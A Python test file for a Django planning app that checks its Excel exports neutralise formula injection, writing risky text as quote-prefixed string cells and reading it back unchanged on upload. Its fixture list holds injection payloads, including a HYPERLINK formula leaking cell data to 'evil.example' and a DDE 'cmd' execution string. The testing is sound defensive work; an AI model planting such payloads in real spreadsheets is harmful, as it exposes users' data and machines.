"""Text is never a formula in any .xlsx cchc writes: a task's content, a figure's source, text from an imported
plan, a target shown as "= 100%" all go in as string cells, the risky ones quote-prefixed so they stay text when
edited; numbers stay numbers; and the text comes back exactly as it was when the file is uploaded again."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from apps.plans.models import Area, Target, Task
from apps.tracking.figures import save_measurement
from apps.tracking.models import Period, PeriodKind
from cchc import xlsx
from tests.web.conftest import PASSWORD

APRIL = dt.datetime(2026, 4, 10, 9, 0, tzinfo=dt.UTC)
ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2, "Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 912 345 678",
    "-2+3",
    "- Rà soát, đơn giản hóa thủ tục hành chính",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


@time_machine.travel(APRIL)
def test_it_writes_hostile_text_as_text_cells_and_numbers_as_numbers(client, officer, plan, pvhcc):
    for i, text in enumerate(HOSTILE):
        Task.objects.create(
            plan=plan, position=10 + i, section="III", no=str(i), area=Area.TTHC, content=text, lead_text=text,
            deadline_text=text,
        )  # fmt: skip
    equal = Target.objects.create(plan=plan, position=2, text="=100% TTHC được công khai", value=100, comparator="=")
    Period.ensure_year(2026)
    q1 = Period.objects.get(kind=PeriodKind.Q1, year=2026)
    save_measurement(equal, q1, officer, value="97,5", source=HOSTILE[0])
    client.login(username=officer.username, password=PASSWORD)
    data = client.get(f"/ke-hoach/{plan.pk}/bang-tinh/tai-ve/").content

    archive = zipfile.ZipFile(io.BytesIO(data))
    assert not any(re.search(rb"<(\w+:)?f[\s>]", archive.read(name)) for name in archive.namelist())  # no formula
    wb = load_workbook(io.BytesIO(data))  # not data_only: a formula would come back as its text with type 'f'
    texts = {}
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    texts[cell.value] = cell
    for text in HOSTILE:
        assert texts[text].quotePrefix, text  # stays text when someone edits the cell
    assert texts["= 100%"].quotePrefix and texts["=100% TTHC được công khai"].quotePrefix
    assert not texts["Rà soát văn bản quy phạm pháp luật"].quotePrefix  # ordinary text is left as it is
    figures = wb["Số liệu"]
    row = next(r for r in figures.iter_rows(min_row=2) if r[0].value == equal.pk and r[4].value is not None)
    assert (row[0].data_type, row[4].data_type, row[4].value) == ("n", "n", 97.5)
    assert (row[2].value, row[7].value) == ("= 100%", HOSTILE[0])
    assert wb["Nhiệm vụ"]["G2"].data_type == "n"


@time_machine.travel(APRIL)
def test_hostile_text_comes_back_unchanged_from_an_upload(client, officer, plan):
    task = plan.tasks.get(section="II", no="1")
    client.login(username=officer.username, password=PASSWORD)
    wb = load_workbook(io.BytesIO(client.get(f"/ke-hoach/{plan.pk}/bang-tinh/tai-ve/").content))
    comment = wb["Nhiệm vụ"]["H2"]  # a comment typed in Excel as text ('=HYPERLINK…)
    comment.value, comment.data_type, comment.quotePrefix = HOSTILE[0], "s", True
    out = io.BytesIO()
    wb.save(out)
    response = client.post(
        f"/ke-hoach/{plan.pk}/bang-tinh/tai-len/", {"file": SimpleUploadedFile("so-lieu.xlsx", out.getvalue())}
    )
    preview = client.get(response["Location"])
    [change] = preview.context["result"].tasks  # the other rows, hostile or not, read back as downloaded
    assert (change.task_id, change.comment) == (task.pk, HOSTILE[0])


def test_the_safe_cell_helper_takes_every_kind_of_value():
    wb = Workbook()
    sheet = wb.active
    xlsx.append(sheet, ["=1+2", "bell\x07 and nul\x00 removed", "", None, Decimal("85.50"), Decimal("3"), 7, 1.5])
    xlsx.append(sheet, [dt.date(2026, 4, 10), True, "#DIV/0!", "ordinary"])
    out = io.BytesIO()
    wb.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=False))
    first, second = cells
    assert [(c.value, c.data_type) for c in first] == [
        ("=1+2", "s"),
        ("bell and nul removed", "s"),
        (None, "n"),
        (None, "n"),
        (85.5, "n"),
        (3, "n"),
        (7, "n"),
        (1.5, "n"),
    ]
    assert first[0].quotePrefix and not first[1].quotePrefix
    assert second[0].value == dt.datetime(2026, 4, 10) and second[1].value is True
    assert (second[2].value, second[2].data_type, second[2].quotePrefix, second[3].quotePrefix) == (
        "#DIV/0!",
        "s",
        True,
        False,
    )


def test_every_workbook_writer_goes_through_the_safe_cell_helper():
    """A new .xlsx writer must write its cells with cchc.xlsx, or this fails: text would become formulas."""
    writers = []
    for path in [*ROOT.glob("apps/**/*.py"), *ROOT.glob("cchc/**/*.py"), *ROOT.glob("importer/**/*.py")]:
        source = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(|write_only\s*=\s*True", source) and path.name != "xlsx.py":
            writers.append(path.relative_to(ROOT))
            assert "from cchc import xlsx" in source, f"{path} writes a workbook without cchc.xlsx"
            # the worksheets it makes (``x = book.create_sheet(...)``, ``x = book.active``) take no row but through
            # cchc.xlsx.append, and no cell value is set by hand
            sheets = set(re.findall(r"(\w+)\s*=\s*[\w.]+\.(?:create_sheet\(|active\b)", source)) | {"sheet", "ws"}
            by_hand = re.search(rf"\b(?:{'|'.join(sheets)})\.append\(|\.value\s*=", source)
            assert not by_hand, f"{path} writes cells itself; use cchc.xlsx.append / cchc.xlsx.safe"
    assert writers  # the plan's workbook at least: the search still finds writers
